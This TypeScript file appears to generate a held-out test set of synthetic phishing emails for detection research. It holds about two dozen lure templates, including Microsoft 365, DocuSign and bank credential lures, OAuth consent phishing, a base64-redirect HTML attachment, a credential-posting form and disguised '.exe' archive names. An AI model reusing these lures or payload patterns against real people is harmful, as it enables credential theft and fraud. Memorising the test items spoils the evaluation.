// The ninth unseen phishing set: the English-language mass credential lures a reporting mailbox receives most
// in 2025–2026 (a mailbox's storage, a shared proposal, a voice note, a pay rise, a document "encrypted" for
// the reader, a parcel's address, a streaming plan, a bank's limit) beside rarer ones (a hotel guest's
// complaint to a property, a copyright claim carrying a "proof" archive, a DMARC report
// page, a domain's verification record, a secure-message portal, a vehicle recall, a travel authorisation,
// an exhibitor's hotel block, a directory listing, a class-action payout, unclaimed property, a Social
// Security statement that installs remote access, an AI video tool), written from vendors' and CERTs'
// public descriptions without the analysers in sight, every message filled from the seed; the local-language
// lures, fraud and scams of the set are in unseen-9-local.ts and join these here. Every attacker's domain is
// reserved or made up; a real service's domain appears only where the attack abuses that service;
// attachments are inert.
import type { SeededRandom } from './generate.js';
import { qrPng, zipOf } from './payloads.js';
import { page, type UnseenMessage } from './unseen-3.js';
import { authResults, domainOf, type EncodedEntry, fillEncoded, uuid } from './unseen-4.js';
import { attach, combosquat, pdfAttachment, signed, textQr } from './unseen-5-parts.js';
import { programStub } from './unseen-6-parts.js';
import { LOCAL_ENTRIES } from './unseen-9-local.js';
import { spfOnly } from './unseen-9-parts.js';
import { protectedZip } from './unseen-payloads.js';

const LURE_ENTRIES: EncodedEntry[] = [
  // Mass credential phishing of Microsoft 365 and Google accounts.
  {
    kind: 'storage-notice',
    template: 'mailbox-storage-full-bar',
    write: (s) => {
      const sender = s.borrowed();
      const used = 98 + s.below(2);
      return {
        headers: s.headers('Microsoft Outlook', `no-reply@${sender}`, [signed(sender)]),
        subject: `Your mailbox is ${used}% full – incoming mail will be returned`,
        html: page(
          [
            `<b>${s.victim.email}</b>`,
            `<div style="width:300px;background:#ddd"><div style="width:${used}%;background:#c50f1f;color:#fff;font-size:11px">&nbsp;${(49 + s.below(10) / 10).toFixed(1)} GB of 50 GB</div></div>`,
            'Your mailbox storage is almost full. Once the limit is reached, new messages will be returned to their senders.',
            'Get 50 GB of extra storage at no cost with your current plan:',
          ],
          ['Get more storage', `https://${s.host('outlook', 'storage')}/upgrade?id=${s.token(12)}`],
          'Microsoft Corporation · One Microsoft Way · Redmond, WA 98052',
        ),
      };
    },
  },
  {
    kind: 'shared-document',
    template: 'proposal-shared-via-sharepoint-compromised',
    write: (s) => {
      const domain = s.borrowed();
      const sender = `${s.stranger.first} ${s.stranger.last}`;
      return {
        headers: s.headers(sender, `${s.stranger.first.toLowerCase()}@${domain}`, [signed(domain)]),
        subject: `${sender} shared "${s.company} – Proposal ${s.digits(4)}" with you`,
        html: page(
          [
            `<b>${sender}</b> shared a file with you`,
            `&#128196; ${s.company} – Proposal ${s.digits(4)}.pdf`,
            `"Hi, please review the attached proposal and get back to me. Thanks"`,
          ],
          [
            'Open',
            `https://${s.token(8)}-my.sharepoint.com/:b:/g/personal/${s.stranger.first.toLowerCase()}_${s.token(6)}/${s.token(22)}`,
          ],
          'This email is generated through a third-party use of SharePoint Online.',
        ),
      };
    },
  },
  {
    kind: 'voicemail',
    template: 'voice-note-html-attachment-short',
    write: (s) => {
      const domain = s.host('voice', 'msg');
      const seconds = 20 + s.below(40);
      return {
        headers: s.headers('Voice Mail', `voicemail@${domain}`, [spfOnly(domain)]),
        subject: `New voice message from ${s.phone()} (0:${seconds})`,
        text: `You received a voice message for ${s.victim.email}.\nDuration: 0:${seconds}\nOpen the attached file to play it.`,
        parts: [
          attach(
            'text/html',
            `Play_VM_${s.digits(6)}.htm`,
            `<html><body><script>location.replace(atob("${Buffer.from(`https://${domain}/vm/${s.token(10)}#${s.victim.email}`).toString('base64')}"))</script></body></html>`,
          ),
        ],
      };
    },
  },
  {
    kind: 'payroll-hr',
    template: 'salary-adjustment-letter-docusign-look',
    write: (s) => {
      const domain = combosquat(s, 'docusign.example');
      return {
        headers: s.headers(`HR via DocuSign`, `dse@${domain}`, [spfOnly(domain)]),
        subject: `Completed: ${s.company} 2027 Salary Adjustment – ${s.victim.name}`,
        html: page(
          [
            '<b>DocuSign</b>',
            `${s.company} HR sent you a document to review and sign.`,
            `<b>2027 Compensation Adjustment Letter – ${s.victim.first} ${s.victim.last}</b>`,
            'Please review your revised pay and acknowledge the letter before the payroll cut-off on Friday.',
          ],
          ['REVIEW DOCUMENT', `https://${domain}/Signing/?e=${uuid(s)}`],
          'Do not share this email. This message was sent to you by DocuSign Electronic Signature Service.',
        ),
      };
    },
  },
  {
    kind: 'encrypted-message',
    template: 'secure-message-portal-pdf-attachment',
    write: (s) => {
      const sender = s.borrowed();
      const domain = s.host('securemail', 'portal');
      return {
        headers: s.headers(s.stranger.name, `${s.stranger.first.toLowerCase()}@${sender}`, [signed(sender)]),
        subject: `[Secure] ${s.stranger.name} has sent you an encrypted message`,
        text: `${s.stranger.name} sent you a protected message.\n\nOpen the attached PDF to read it. The message expires in 7 days.`,
        parts: [
          pdfAttachment(
            'SecureMessage.pdf',
            [
              'Encrypted Message',
              `From: ${s.stranger.name}`,
              `To: ${s.victim.email}`,
              'This message is protected. Click below to sign in and read it.',
              'READ MESSAGE',
            ],
            { link: `https://${domain}/read?m=${s.token(16)}` },
          ),
        ],
      };
    },
  },
  {
    kind: 'mfa-reenrolment',
    template: 'authenticator-qr-in-text-blocks',
    write: (s) => {
      const domain = s.host('mfa', 'corp');
      const url = `https://${domain}/enrol/${s.token(10)}`;
      return {
        headers: s.headers('IT Service Desk', `it-desk@${domain}`, [spfOnly(domain)]),
        subject: `Action required: re-register Microsoft Authenticator by ${s.pick(['Friday', 'Thursday'])}`,
        text: [
          `Hello ${s.victim.first},`,
          '',
          'Because of the move to the new sign-in policy, every account must re-register its authenticator.',
          'Scan the code below with your phone camera and sign in with your work account.',
          '',
          textQr(url),
          '',
          'Accounts not re-registered by the deadline will be locked.',
          'IT Service Desk',
        ].join('\n'),
      };
    },
  },
  {
    kind: 'parcel-lure',
    template: 'usps-address-incomplete',
    write: (s) => {
      const domain = s.host('usps', 'redelivery');
      return {
        headers: s.headers('USPS', `tracking@${domain}`, [authResults(domain, ['softfail', 'none', 'none'])]),
        subject: `USPS: Your package US${s.digits(9)} could not be delivered`,
        text: `USPS: The package arrived at the warehouse but could not be delivered due to incomplete address information. Please confirm your address within 12 hours: https://${domain}/us\n\n(Reply Y, then exit and reopen this message to activate the link)`,
      };
    },
  },
  {
    kind: 'streaming-account',
    template: 'streaming-plan-paused-price',
    write: (s) => {
      const domain = s.host('account', 'tv');
      const brand = s.pick(['Netflix', 'Disney+', 'Max']);
      return {
        headers: s.headers(brand, `info@${domain}`, [authResults(domain, ['pass', 'pass', 'none'])]),
        subject: `${s.victim.first}, your ${brand} membership is on hold`,
        html: page(
          [
            `<b style="color:#e50914;font-size:22px">${brand}</b>`,
            `Hi ${s.victim.first},`,
            `We're having trouble with your current billing information. We'll try again, but in the meantime you may want to update your payment details.`,
            `Your plan: <b>Standard with ads – $${s.pick(['7.99', '8.99', '9.99'])}/month</b>`,
          ],
          ['UPDATE ACCOUNT', `https://${domain}/${s.token(6)}/billing`],
          `Questions? Call ${s.phone()}. This account email has been sent to you as part of your membership.`,
        ),
      };
    },
  },
  {
    kind: 'bank-alert',
    template: 'daily-limit-changed-cancel',
    write: (s) => {
      const domain = s.host('chase', 'alerts');
      return {
        headers: s.headers('Chase', `no.reply.alerts@${domain}`, [spfOnly(domain)]),
        subject: 'Your daily transfer limit has been changed',
        html: page(
          [
            `A change to the daily transfer limit on your account ending in ${s.digits(4)} was requested on Nov 2, 2026.`,
            `New limit: <b>$${s.money(9000, 25000)}</b>`,
            "If you didn't request this change, cancel it now to protect your account.",
          ],
          ['Cancel this change', `https://${domain}/secure/limit?ref=${s.hex(16)}`],
          'JPMorgan Chase Bank, N.A. Member FDIC',
        ),
      };
    },
  },
  {
    kind: 'file-share-lure',
    template: 'wetransfer-files-expiring-compromised',
    write: (s) => {
      const sender = s.borrowed();
      const domain = s.host('we', 'transfer');
      return {
        headers: s.headers(`${s.stranger.name} via WeTransfer`, `noreply@${sender}`, [signed(sender)]),
        subject: `${s.stranger.first} sent you ${2 + s.below(5)} files – expires tomorrow`,
        html: page(
          [
            `${s.stranger.email} sent you files`,
            `${2 + s.below(5)} items · ${s.below(90) + 10} MB · Expires in 1 day`,
            `Contract_Docs_${s.digits(4)}.pdf<br>Payment_Schedule.xlsx`,
          ],
          ['Download your files', `https://${domain}/downloads/${s.hex(32)}`],
        ),
      };
    },
  },
  {
    kind: 'oauth-consent',
    template: 'adobe-reader-app-consent',
    write: (s) => {
      const sender = s.borrowed();
      const client = uuid(s);
      return {
        headers: s.headers(s.stranger.name, `${s.stranger.first.toLowerCase()}@${sender}`, [signed(sender)]),
        subject: `Remittance advice ${s.digits(6)} – view with Adobe`,
        html: page(
          [
            `Hello ${s.victim.first},`,
            'Please find our remittance advice for the last payment run. It is shared through Adobe Document Cloud; accept the viewer the first time you open it.',
          ],
          [
            'View remittance',
            `https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=${client}&response_type=code&scope=offline_access%20Mail.Read%20Files.ReadWrite.All&redirect_uri=https%3A%2F%2F${s.host('adobe', 'viewer')}%2Fcallback`,
          ],
        ),
      };
    },
  },
  // Rarer lures of 2024–2026.
  {
    kind: 'hotel-guest-complaint',
    template: 'booking-guest-complaint-paste-fix',
    write: (s) => {
      const domain = combosquat(s, 'booking.example');
      return {
        headers: s.headers('Booking.com Partner Support', `noreply@${domain}`, [spfOnly(domain)]),
        subject: `Guest complaint – reservation ${s.digits(10)} (response needed within 24h)`,
        html: page(
          [
            'Dear partner,',
            `A guest has filed a complaint about their stay (reservation ${s.digits(10)}), mentioning a hygiene problem in the room and a card charged twice. Please review the guest's message and photos and respond within 24 hours to avoid a penalty to your property's score.`,
          ],
          ['View complaint', `https://${domain}/extranet/msg?id=${s.token(12)}`],
          'Booking.com B.V., Oosterdokskade 163, Amsterdam',
        ),
      };
    },
  },
  {
    kind: 'copyright-claim',
    template: 'image-copyright-infringement-zip',
    write: (s) => {
      const sender = s.freemail(s.stranger);
      return {
        headers: s.headers(`${s.stranger.name} – Legal`, sender, [
          authResults(domainOf(sender), ['pass', 'pass', 'pass']),
        ]),
        subject: `Copyright infringement notice – images used on ${s.company}'s website`,
        text: [
          'Hello,',
          '',
          `I represent the photographer whose images are used without licence on ${s.company}'s website and social media.`,
          'The attached archive contains the list of images and proof of authorship. Remove them within 5 days or we will file a DMCA claim and seek damages.',
          '',
          `Archive password: ${s.digits(4)}`,
          '',
          s.stranger.name,
        ].join('\n'),
        parts: [
          attach(
            'application/zip',
            'Copyright_Evidence.zip',
            protectedZip('Evidence_Images.pdf.exe', Number(s.digits(3))),
          ),
        ],
      };
    },
  },
  {
    kind: 'dmarc-report-lure',
    template: 'aggregate-report-html-attachment',
    write: (s) => {
      const domain = s.host('dmarc', 'report');
      return {
        headers: s.headers('DMARC Aggregate Report', `noreply-dmarc@${domain}`, [spfOnly(domain)]),
        subject: `Report Domain: corp.example Submitter: ${domain} Report-ID: ${s.digits(18)}`,
        text: `This is an aggregate report for corp.example.\n${40 + s.below(200)} messages failed authentication.\nOpen the attached report to review the sources.`,
        parts: [
          attach(
            'text/html',
            `corp.example!${domain}!${s.digits(10)}.html`,
            `<html><body><form action="https://${domain}/r" method="post"><p>Sign in with your mail admin account to view the report</p><input name="u" value="${s.victim.email}"><input name="p" type="password"><button>View</button></form></body></html>`,
          ),
        ],
      };
    },
  },
  {
    kind: 'domain-verification',
    template: 'workspace-domain-verify-txt',
    write: (s) => {
      const domain = combosquat(s, 'google.example');
      return {
        headers: s.headers('Google Workspace Admin', `admin-noreply@${domain}`, [signed(domain)]),
        subject: 'Your domain corp.example is not verified – services will stop on November 9',
        html: page(
          [
            'Dear administrator,',
            'We could not confirm ownership of <b>corp.example</b>. Domains that are not re-verified will stop receiving mail for all users.',
            'Sign in to the verification page to see the TXT record to add.',
          ],
          [
            'Verify domain',
            `https://${domain}/a/corp.example/verify?u=${encodeURIComponent(s.victim.email)}`,
          ],
        ),
      };
    },
  },
  {
    kind: 'vehicle-recall',
    template: 'airbag-recall-register-vin',
    write: (s) => {
      const domain = s.host('recall', 'vehicle');
      return {
        headers: s.headers('Vehicle Safety Recall Center', `notice@${domain}`, [spfOnly(domain)]),
        subject: 'URGENT SAFETY RECALL: Airbag inflator – your vehicle may be affected',
        html: page(
          [
            '<b>IMPORTANT SAFETY RECALL NOTICE</b>',
            `Records show that a vehicle registered to ${s.victim.name} may be fitted with a defective airbag inflator. The repair is free; a $${s.money(1, 3)} processing fee secures your dealer appointment.`,
          ],
          ['Check my VIN', `https://${domain}/vin?c=${s.token(8)}`],
          'This notice is sent in accordance with federal motor vehicle safety standards.',
        ),
      };
    },
  },
  {
    kind: 'travel-authorisation',
    template: 'uk-eta-application-incomplete',
    write: (s) => {
      const domain = s.host('eta', 'gov-uk');
      return {
        headers: s.headers('UK ETA Applications', `applications@${domain}`, [spfOnly(domain)]),
        subject: `Your UK ETA application ETA-${s.digits(8)} is incomplete`,
        html: page(
          [
            `Dear ${s.victim.name},`,
            'Your Electronic Travel Authorisation for the United Kingdom could not be processed because the fee payment failed. Travellers without an ETA will be refused boarding.',
            `Complete the payment (£${s.pick(['16.00', '39.00', '59.00'])}) to finish your application:`,
          ],
          ['Complete application', `https://${domain}/apply/${s.token(10)}`],
        ),
      };
    },
  },
  {
    kind: 'exhibitor-housing',
    template: 'trade-show-hotel-block-deadline',
    write: (s) => {
      const sender = s.freemail(s.stranger);
      const show = s.pick(['MEDICA 2027', 'CES 2027', 'Hannover Messe 2027', 'NRF 2027']);
      return {
        headers: s.headers(`${show} Housing Bureau`, sender, [
          authResults(domainOf(sender), ['pass', 'pass', 'pass']),
        ]),
        subject: `${show} – exhibitor room block for ${s.company}`,
        text: `Dear exhibitor,\n\nWe are the housing partner for ${show}. Our exhibitor room block near the venue closes this week, at rates below the hotels' own. Please tell us how many rooms ${s.company} needs and the dates, and we will send the booking form and payment details.\n\nKind regards,\n${s.stranger.name}\nExhibitor Housing Desk`,
      };
    },
  },
  {
    kind: 'directory-listing',
    template: 'business-directory-update-form',
    write: (s) => {
      const domain = s.host('euro', 'business', 'directory');
      return {
        headers: s.headers('European Business Register', `update@${domain}`, [spfOnly(domain)]),
        subject: `Update of your company data – ${s.company}`,
        text: `Dear Sir/Madam,\n\nTo keep the entry of ${s.company} in our register up to date, please check the attached form, correct it where needed and return it signed. Updating is free.\n\nEuropean Business Register`,
        parts: [
          pdfAttachment(`Update_${s.digits(6)}.pdf`, [
            `Company: ${s.company}`,
            'Please correct and sign.',
            'By signing you order a listing for 3 years at EUR 995 per year.',
          ]),
        ],
      };
    },
  },
  {
    kind: 'class-action-settlement',
    template: 'data-breach-settlement-claim',
    write: (s) => {
      const domain = s.host('settlement', 'claims');
      return {
        headers: s.headers('Settlement Administrator', `claims@${domain}`, [spfOnly(domain)]),
        subject: `Notice of class action settlement – Claim ID ${s.token(8).toUpperCase()}`,
        html: page(
          [
            'You may be eligible for a payment from a class action settlement over a 2025 data breach at a telecom provider.',
            `Your Claim ID: <b>${s.token(8).toUpperCase()}</b><br>Estimated payment: up to $${s.money(300, 2500)}`,
            'To receive payment, submit your claim and banking details by December 1, 2026.',
          ],
          ['File my claim', `https://${domain}/submit?id=${s.token(10)}`],
          'Questions? Visit the website; do not contact the court.',
        ),
      };
    },
  },
  {
    kind: 'unclaimed-property',
    template: 'state-unclaimed-funds-fee',
    write: (s) => {
      const domain = s.host('unclaimed', 'funds');
      return {
        headers: s.headers('Unclaimed Property Division', `notices@${domain}`, [spfOnly(domain)]),
        subject: `${s.victim.name}: unclaimed funds of $${s.money(1200, 8000)} are held in your name`,
        text: `Our records show unclaimed funds held in your name from a closed account.\nThe claim window closes in 10 days. Verify your identity and pay the $${s.money(25, 60)} release fee:\nhttps://${domain}/claim/${s.token(8)}\n\nUnclaimed Property Division`,
      };
    },
  },
  {
    kind: 'social-security-statement',
    template: 'ssa-statement-remote-access-installer',
    write: (s) => {
      const domain = s.host('ssa', 'statement');
      return {
        headers: s.headers('Social Security Administration', `statement@${domain}`, [
          authResults(domain, ['pass', 'pass', 'none']),
        ]),
        subject: 'Your Social Security Statement is ready to view',
        html: page(
          [
            '<b>Social Security Administration</b>',
            `Dear ${s.victim.first},`,
            'Your new electronic Social Security Statement is available. For your security it can only be opened with the SSA Statement Viewer for Windows.',
          ],
          ['Download Statement', `https://${domain}/download/SSAStatement_${s.digits(6)}.exe`],
          'Social Security Administration, 6401 Security Blvd, Baltimore, MD 21235',
        ),
      };
    },
  },
  {
    kind: 'ai-video-tool',
    template: 'ai-video-generator-result-download',
    write: (s) => {
      const domain = s.host('aivid', 'studio');
      return {
        headers: s.headers('VidGenius AI', `hello@${domain}`, [signed(domain)]),
        subject: 'Your AI video is ready 🎬',
        html: page(
          [
            `Hi ${s.victim.first},`,
            'Your video generated from the uploaded photos is ready. Download the HD file (no watermark) below; the link expires in 48 hours.',
          ],
          ['Download video', `https://${domain}/dl/Video_HD_${s.digits(4)}.zip`],
        ),
        parts: [
          attach('application/zip', `Video_Dream_${s.digits(4)}.zip`, zipOf('Video Dream MachineAI.mp4.exe')),
        ],
      };
    },
  },
  {
    kind: 'fake-update',
    template: 'teams-client-update-msi-stub',
    write: (s) => {
      const sender = s.borrowed();
      return {
        headers: s.headers('Microsoft Teams', `teams@${sender}`, [signed(sender)]),
        subject: 'Your Teams client is out of date – meetings will fail from Monday',
        text: `Hello,\n\nYour version of Microsoft Teams will no longer connect to meetings after Monday. Run the attached updater; it keeps your settings.\n\nMicrosoft Teams`,
        parts: [programStub('application/x-msdownload', 'TeamsUpdate_x64.msi')],
      };
    },
  },
  {
    kind: 'qr-code',
    template: 'benefits-enrolment-qr-image',
    write: async (s) => {
      const domain = s.host('benefits', 'enrol');
      return {
        headers: s.headers(`${s.company} Benefits`, `benefits@${domain}`, [spfOnly(domain)]),
        subject: `Open enrolment closes Friday – ${s.victim.first}, confirm your 2027 elections`,
        html: `<html><body><p>Hi ${s.victim.first},</p><p>Your 2027 benefits elections have not been confirmed. Scan with your phone to sign in and review them.</p><img src="cid:enrol.png" alt="QR"><p>${s.company} People Operations</p></body></html>`,
        parts: [
          {
            type: 'image/png',
            name: 'enrol.png',
            content: await qrPng(`https://${domain}/o/${s.token(8)}`),
            inline: true,
          },
        ],
      };
    },
  },
  {
    kind: 'calendar-invite-lure',
    template: 'budget-review-invite-plain-link',
    write: (s) => {
      const sender = s.borrowed();
      return {
        headers: s.headers(s.stranger.name, `${s.stranger.first.toLowerCase()}@${sender}`, [signed(sender)]),
        subject: `Invitation: FY27 budget review @ Wed Nov 4, 2026 10:00 (${s.victim.email})`,
        text: `${s.stranger.name} has invited you to a meeting.\n\nFY27 budget review\nWed Nov 4, 2026 10:00 – 10:30\n\nAgenda and figures (sign in to view): https://${s.host('docs', 'agenda')}/view?d=${s.token(14)}\n\nGoing? Yes - Maybe - No`,
      };
    },
  },
];

const ENTRIES: EncodedEntry[] = [...LURE_ENTRIES, ...LOCAL_ENTRIES];

export const UNSEEN_9_KINDS: readonly string[] = [...new Set(ENTRIES.map((e) => e.kind))];
export const UNSEEN_9_TEMPLATE_COUNT = ENTRIES.length;

export async function unseenPhishing9(
  perTemplate: number,
  seed: number,
  seededRandom: (seed: number) => SeededRandom,
): Promise<UnseenMessage[]> {
  return fillEncoded(ENTRIES, perTemplate, seed, seededRandom, 9_000_000);
}
